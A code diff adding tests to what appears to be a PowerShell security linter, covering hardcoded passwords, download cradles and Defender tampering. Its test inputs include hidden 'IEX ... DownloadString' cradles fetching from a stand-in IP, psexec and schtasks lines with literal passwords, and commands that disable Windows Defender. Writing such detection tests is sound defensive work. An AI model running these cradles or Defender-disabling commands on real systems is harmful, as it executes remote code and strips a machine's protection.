@@ -231,3 +231,35 @@ def test_scoped_variable_ending_in_a_question_mark_parses() -> None:
     result = analyze("$length = $env:PATH?.Length\n$status = ${svc}?.Status\n$length, $status")
     assert hits(result, "PSParseError") == []
     assert lines_of(result, "PSUseCompatibleSyntax") == [2]
+
+
+def test_native_tools_given_literal_passwords() -> None:
+    result = analyze("""
+        cmdkey /add:fileserver01 /user:CORP\\svc_copy /pass:Winter2024!
+        schtasks /create /tn Sync /tr C:\\sync.exe /sc onstart /ru CORP\\admin /rp Adm1nPass!
+        psexec \\\\srv01 -u CORP\\admin -p S3cret!Pass cmd.exe
+        cmdkey /add:fileserver01 /user:CORP\\svc_copy /pass:$password
+        schtasks /create /tn Sync /tr C:\\sync.exe /sc onstart /ru SYSTEM
+    """)
+    assert lines_of(result, "PSAvoidHardcodedCredential") == [1, 2, 3]
+
+
+def test_cradle_written_as_a_command_line_string() -> None:
+    result = analyze("""
+        powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/z')"
+        Start-Process powershell -ArgumentList '-c "iwr http://203.0.113.9/s.ps1 -UseBasicParsing | iex"'
+        Write-Output 'Run: iex (irm https://get.contoso.com)'
+        # IEX (New-Object Net.WebClient).DownloadString('http://example.org') in a comment is no finding
+        $help = 'Use Invoke-WebRequest to download, never Invoke-Expression.'
+    """)
+    assert lines_of(result, "PSDownloadCradle") == [1, 2, 3]
+
+
+def test_defender_cloud_protection_and_feature_removal_are_tampering() -> None:
+    result = analyze("""
+        Set-MpPreference -MAPSReporting 0 -SubmitSamplesConsent 2
+        Uninstall-WindowsFeature -Name Windows-Defender
+        Set-MpPreference -MAPSReporting Advanced
+        Uninstall-WindowsFeature -Name Web-Server
+    """)
+    assert lines_of(result, "PSDefenderTampering") == [1, 2]
